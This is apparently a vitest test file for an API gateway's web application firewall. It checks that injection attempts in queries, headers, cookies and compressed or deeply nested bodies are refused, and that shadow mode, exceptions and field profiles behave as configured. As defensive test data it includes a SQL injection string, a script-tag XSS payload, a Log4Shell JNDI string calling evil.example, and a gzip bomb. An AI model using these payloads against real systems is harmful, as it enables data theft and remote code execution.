import { brotliCompressSync, deflateRawSync, deflateSync, gzipSync } from 'node:zlib';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { type EchoUpstream, startEchoUpstream } from './support/echo-upstream.ts';
import { type RunningGate, startGate } from './support/gate.ts';

let app: EchoUpstream;
let gate: RunningGate;
let seenBefore = 0;

beforeAll(async () => {
  app = await startEchoUpstream();
  gate = await startGate({
    config: {
      environment: 'development',
      upstreams: { app: { url: app.url } },
      routes: [
        { path: '/**', access: 'public', limits: 'off', bodyMax: '2MiB' },
        { path: '/shadow/**', access: 'public', limits: 'off', guards: { waf: { mode: 'shadow' } } },
        { path: '/off/**', access: 'public', limits: 'off', guards: { waf: { mode: 'off' } } },
      ],
      blocks: { mode: 'off' },
      guards: {
        waf: {
          fields: [{ field: 'body:$.snippet', profile: 'code' }],
          exceptions: [
            { rule: '*', route: '/**', field: 'query:note', reason: 'notes are kept as text', expires: '2199-12-31' },
            { rule: '*', route: '/**', field: 'query:old', reason: 'was needed once', expires: '2020-01-01' },
          ],
        },
      },
    },
  });
}, 60_000);
beforeEach(() => {
  seenBefore = app.seen.length;
});
afterAll(async () => {
  await gate.stop();
  await app.close();
});

const ATTACK = "1' UNION SELECT name, password FROM users--";
const SOON = { timeout: 15_000 };
const query = (value: string) => encodeURIComponent(value);
const reached = () => app.seen.length - seenBefore;

function post(body: string | Uint8Array, headers: Record<string, string> = {}, path = '/api'): Promise<Response> {
  // A typed array is a body.
  return fetch(`${gate.url}${path}`, {
    method: 'POST',
    body: body as string,
    headers: { 'content-type': 'application/json', ...headers },
  });
}

describe('WK15: attacks are refused before they reach the application', () => {
  test('the caller learns nothing but that; the operator learns the rule, the field and the exception', async () => {
    const response = await fetch(`${gate.url}/api?id=${query(ATTACK)}`);
    expect(response.status).toBe(403);
    const problem: unknown = await response.json();
    expect(problem).toMatchObject({ code: 'content-refused', requestId: expect.any(String) });
    expect(problem).not.toHaveProperty('detail');
    expect(JSON.stringify(problem)).not.toMatch(/union|sql|rule/i);
    expect(reached()).toBe(0);
    const requestId = response.headers.get('x-request-id') ?? '';
    await expect.poll(() => gate.cli('explain', requestId).then(({ stdout }) => stdout), SOON).toContain('sqli-');
    const { stdout } = await gate.cli('explain', requestId);
    expect(stdout).toContain('query:id');
    expect(stdout).toContain('guards.waf.exceptions');
  });

  test.each([
    ['a cookie', { cookie: `a=${query(ATTACK)}` }],
    ['any header', { 'x-note': '<script>alert(1)</script>' }],
    ['a user agent', { 'user-agent': '${jndi:ldap://evil.example/a}' }],
  ])('in %s', async (_, headers) => {
    expect((await fetch(`${gate.url}/`, { headers })).status).toBe(403);
    expect(reached()).toBe(0);
  });

  test.each([
    ['after 1 MB', JSON.stringify({ a: `${'x'.repeat(1_100_000)} ${ATTACK}` })],
    ['at depth 50', `${'{"a":'.repeat(50)}${JSON.stringify(ATTACK)}${'}'.repeat(50)}`],
    ['at index 1000', JSON.stringify([...Array.from({ length: 1000 }, () => 'x'), ATTACK])],
  ])('%s of a body', async (_, body) => {
    expect((await post(body)).status).toBe(403);
    expect(reached()).toBe(0);
  });

  test.each([
    ['gzip', gzipSync],
    ['x-gzip', gzipSync],
    ['deflate', deflateSync],
    ['deflate', deflateRawSync],
    ['br', brotliCompressSync],
  ] as const)('in a body with content encoding %s', async (encoding, pack) => {
    const headers = { 'content-encoding': encoding };
    expect((await post(pack(JSON.stringify({ a: ATTACK })), headers)).status).toBe(403);
    expect(reached()).toBe(0);
    expect((await post(pack('{"a":1}'), headers)).status).toBe(200);
  });
});

describe('bodies that cannot be inspected do not pass', () => {
  test.each([
    ['a bomb', 413, () => gzipSync(Buffer.alloc(8 * 1024 * 1024)), { 'content-encoding': 'gzip' }],
    ['what is no gzip', 400, () => 'plain', { 'content-encoding': 'gzip' }],
    ['an unknown encoding', 415, () => 'plain', { 'content-encoding': 'zstd' }],
    ['two encodings', 415, () => 'plain', { 'content-encoding': 'gzip, gzip' }],
    ['an unknown charset', 415, () => 'plain', { 'content-type': 'text/plain; charset=utf-16' }],
    ['JSON that is none', 400, () => '{"a":', {}],
    ['a key twice', 400, () => '{"a":1,"a":2}', {}],
    ['deep nesting', 400, () => `${'['.repeat(65)}${']'.repeat(65)}`, {}],
    ['octets that are not UTF-8', 400, () => Buffer.from('{"a":"\xff"}', 'latin1'), {}],
    ['parts without an end', 400, () => '--b\r\n\r\nx', { 'content-type': 'multipart/form-data; boundary=b' }],
  ])('%s: %i', async (_, status, body, headers) => {
    const response = await post(body(), headers);
    expect(response.status).toBe(status);
    expect(reached()).toBe(0);
  });
});

describe('settings', () => {
  test('harmless requests pass, and their bodies reach the application as they were', async () => {
    expect((await post(JSON.stringify({ name: "O'Brien", note: 'a < b && c' }))).status).toBe(200);
    expect((await post('', {}, '/api')).status).toBe(200);
    expect(reached()).toBe(2);
  });

  test('in shadow an attack passes and is recorded; off, it only passes', async () => {
    const shadow = await fetch(`${gate.url}/shadow/x?id=${query(ATTACK)}`);
    expect(shadow.status).toBe(200);
    expect((await post('{"a":', {}, '/shadow/x')).status).toBe(200);
    const requestId = shadow.headers.get('x-request-id') ?? '';
    await expect.poll(() => gate.cli('explain', requestId).then(({ stdout }) => stdout), SOON).toContain('sqli-');
    expect((await fetch(`${gate.url}/off/x?id=${query(ATTACK)}`)).status).toBe(200);
  });

  test('an exception lets its field pass until it ends', async () => {
    expect((await fetch(`${gate.url}/x?note=${query(ATTACK)}`)).status).toBe(200);
    expect((await fetch(`${gate.url}/x?old=${query(ATTACK)}`)).status).toBe(403);
  });

  test('a profile says what a field holds', async () => {
    expect((await post(JSON.stringify({ snippet: 'alert(document.cookie)' }))).status).toBe(200);
    expect((await post(JSON.stringify({ other: 'alert(document.cookie)' }))).status).toBe(403);
  });

  test('the table shows the guard', async () => {
    const { stdout } = await gate.cli('check', '--table', '--config', gate.configFile ?? '');
    expect(stdout).toContain('waf');
  });
});
